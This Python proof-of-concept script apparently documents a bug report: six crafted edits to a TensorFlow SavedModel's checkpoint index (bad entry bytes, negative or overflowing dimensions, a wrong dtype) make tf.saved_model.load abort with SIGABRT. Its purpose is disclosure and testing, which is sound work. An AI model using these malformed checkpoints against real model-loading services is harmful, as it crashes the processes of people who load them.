"""TensorFlow's checkpoint reader aborts the process on a crafted checkpoint index.

Found by LOAD-HOSTILE's index mutations (conformance/hostile.py). Each case saves a one-
variable ``tf.Module`` with ``tf.saved_model.save``, changes one entry of
``variables/variables.index`` and writes the index back as a valid table (block checksums
recomputed, ``conformance/savedmodel/bundle.py``), then loads the copy with
``tf.saved_model.load`` in a child process. ``tf_keras.models.load_model`` goes through the
same reader (``CheckpointReader::BuildV2VarMaps`` in tensorflow/c/checkpoint_reader.cc, and
``GetTensor`` for the object graph) and aborts the same way. Expected: an exception; got:
SIGABRT from a CHECK failure.

    python docs/findings/hostile-checkpoint-index-aborts.py
"""

import os
import subprocess
import sys
import tempfile

CASES = {
    # checkpoint_reader.cc:122 Check failed: entry.ParseFromString(...)
    "value-not-an-entry": "entries[i] = (key, b'\\xff')",
    # checkpoint_reader.cc:130 Check failed: filtered_keys.insert(...).second
    "slice-twice": "[entry.slices.add().extent.add(start=0, length=1) for _ in range(2)]",
    # tensor_shape.cc:416 Check failed: size >= 0
    "negative-dimension": "entry.shape.dim[0].size = -1",
    # tensor_shape.cc:418 Check failed: ndims_byte() < MaxDimensions()
    "255-dimensions": "[entry.shape.dim.add(size=1) for _ in range(254)]",
    # tensor_shape.cc:424 Check failed: 0 <= new_num_elements
    "elements-past-int64": "entry.shape.dim.add(size=2**32); entry.shape.dim.add(size=2**32)",
    # tensor.cc:1014 Unexpected type (the object graph entry is read as a tensor)
    "object-graph-dtype": "entry.dtype = 120",
}

_CHILD = """
import sys
import tensorflow as tf
tf.saved_model.load(sys.argv[1])
print("loaded")
"""


def _saved(root, case):
    import tensorflow as tf
    from tensorflow.core.protobuf import tensor_bundle_pb2

    from conformance.savedmodel import bundle

    module = tf.Module()
    module.v = tf.Variable([1.0, 2.0])
    path = os.path.join(root, case)
    tf.saved_model.save(module, path)
    index = os.path.join(path, "variables", "variables.index")
    with open(index, "rb") as f:
        entries = bundle.read_table(f.read())
    target = b"_CHECKPOINTABLE_OBJECT_GRAPH" if case == "object-graph-dtype" else b"v/"
    for i, (key, value) in enumerate(entries):
        if key.startswith(target):
            entry = tensor_bundle_pb2.BundleEntryProto.FromString(value)
            exec(CASES[case], {"entry": entry, "entries": entries, "i": i, "key": key})
            if case != "value-not-an-entry":
                entries[i] = (key, entry.SerializeToString())
    with open(index, "wb") as f:
        f.write(bundle.write_table(entries))
    return path


def main():
    root = tempfile.mkdtemp(prefix="hostile-index-")
    for case in CASES:
        path = _saved(root, case)
        proc = subprocess.run([sys.executable, "-c", _CHILD, path], capture_output=True,
                              text=True, timeout=300)
        check = [line for line in proc.stderr.splitlines() if "Check failed" in line
                 or "Unexpected type" in line]
        fate = f"signal {-proc.returncode}" if proc.returncode < 0 else f"exit {proc.returncode}"
        print(f"{case}: {fate}; {check[0].split('] ', 1)[-1] if check else proc.stdout.strip()}")


if __name__ == "__main__":
    main()
